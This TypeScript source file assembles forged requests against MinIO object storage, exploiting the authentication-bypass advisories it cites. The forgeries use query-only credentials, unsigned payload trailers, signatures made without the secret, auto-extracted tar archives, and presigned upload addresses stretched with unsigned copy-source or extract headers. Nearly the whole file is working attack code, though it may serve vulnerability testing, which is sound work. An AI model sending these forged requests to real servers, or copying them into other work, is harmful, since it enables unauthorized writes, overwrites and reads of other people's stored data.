/**
 * Requests by somebody who knows an access key and not its secret. Every presigned address shows the
 * access key. What MinIO's last published source lets in by them (CVE-2026-40344 and CVE-2026-41145,
 * GHSA-9c4q-hq6p-c237 and GHSA-hv4r-mvr4-25vw), and one that it had let in before (CVE-2025-31489).
 */
import { crc32 } from 'node:zlib';
import { chunkedBody, presigned, type Signer, signedHeaders } from './sign.ts';

export interface Forgery {
  /** How it tries to get in. */
  name: string;
  method: string;
  target: string;
  headers: Record<string, string>;
  body: Buffer;
  /** The object that it makes or replaces where it is let in. */
  key: string;
}

const stolen = Buffer.from('owned');

/**
 * @param victim its region and access key are known; its secret is not used
 * @param options.upload an upload in parts that is under way, of which its presigned addresses show all this
 */
export function forgeries(
  victim: Pick<Signer, 'accessKey' | 'region'>,
  options: { host: string; bucket: string; upload?: { key: string; uploadId: string } },
): Forgery[] {
  const { host, bucket, upload } = options;
  const guess: Signer = { ...victim, secretKey: 'not the secret' };
  const credential = encodeURIComponent(`${victim.accessKey}/20260101/${victim.region}/s3/aws4_request`);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(crc32(stolen));
  const unsigned = {
    'x-amz-content-sha256': 'STREAMING-UNSIGNED-PAYLOAD-TRAILER',
    'x-amz-trailer': 'x-amz-checksum-crc32',
    'x-amz-decoded-content-length': String(stolen.length),
  };
  const chunks = chunkedBody([stolen], { trailer: ['x-amz-checksum-crc32', checksum.toString('base64')] });
  /** Headers with a signature made without the secret. */
  const invented = (key: string, extra: Record<string, string>) =>
    signedHeaders(
      guess,
      { method: 'PUT', path: `/${bucket}/${key}`, host, headers: extra },
      unsigned['x-amz-content-sha256'],
    ).headers;
  return [
    {
      name: 'a credential in the query only, and an unsigned trailer (CVE-2026-41145)',
      method: 'PUT',
      target: `/${bucket}/bypass-query?X-Amz-Credential=${credential}`,
      headers: { host, ...unsigned },
      body: chunks,
      key: 'bypass-query',
    },
    ...(upload
      ? [
          {
            name: 'the same as a part of an upload (CVE-2026-41145)',
            method: 'PUT',
            target: `/${bucket}/${upload.key}?X-Amz-Credential=${credential}&partNumber=1&uploadId=${encodeURIComponent(upload.uploadId)}`,
            headers: { host, ...unsigned },
            body: chunks,
            key: upload.key,
          },
        ]
      : []),
    {
      name: 'an archive to be unpacked, with an invented signature and an unsigned trailer (CVE-2026-40344)',
      method: 'PUT',
      target: `/${bucket}/archive.tar`,
      headers: invented('archive.tar', {
        'x-amz-content-sha256': unsigned['x-amz-content-sha256'],
        'x-amz-meta-snowball-auto-extract': 'true',
      }),
      body: tarOf('bypass-archive', stolen),
      key: 'bypass-archive',
    },
    {
      name: 'an invented signature and an unsigned trailer (CVE-2025-31489)',
      method: 'PUT',
      target: `/${bucket}/bypass-signature`,
      headers: invented('bypass-signature', unsigned),
      body: chunks,
      key: 'bypass-signature',
    },
  ];
}

/**
 * What the holder of an address to upload one object may try with headers that the address does not sign:
 * to read another object, and to write another.
 *
 * @param options.from the object to be read
 */
export function stretchedAddresses(
  signer: Signer,
  { host, bucket, from }: { host: string; bucket: string; from: string },
): Forgery[] {
  const address = (key: string) => presigned(signer, { method: 'PUT', path: `/${bucket}/${key}`, host }, 60);
  return [
    {
      name: 'an address to upload to, with another object as the source',
      method: 'PUT',
      target: address('stretched-copy'),
      headers: { host, 'x-amz-copy-source': `/${bucket}/${from}` },
      body: Buffer.alloc(0),
      key: 'stretched-copy',
    },
    {
      name: 'an address to upload to, with an archive to be unpacked over other objects',
      method: 'PUT',
      target: address('stretched.tar'),
      headers: { host, 'x-amz-meta-snowball-auto-extract': 'true' },
      body: tarOf('stretched-archive', stolen),
      key: 'stretched-archive',
    },
  ];
}

/** A tar archive of one file: a header of 512 bytes, the file filled up to 512, two empty blocks (POSIX ustar). */
function tarOf(name: string, content: Buffer): Buffer {
  const header = Buffer.alloc(512);
  const octal = (value: number, digits: number) => `${value.toString(8).padStart(digits, '0')}\0`;
  header.write(name, 0);
  header.write(octal(0o644, 7), 100);
  header.write(octal(content.length, 11), 124);
  header.write(octal(0, 11), 136);
  header.write('        0', 148); // the checksum counts as spaces; then the type, a file
  header.write('ustar\u000000', 257);
  header.write(
    octal(
      header.reduce((sum, byte) => sum + byte, 0),
      6,
    ),
    148,
  );
  return Buffer.concat([header, content, Buffer.alloc(512 - (content.length % 512)), Buffer.alloc(1024)]);
}
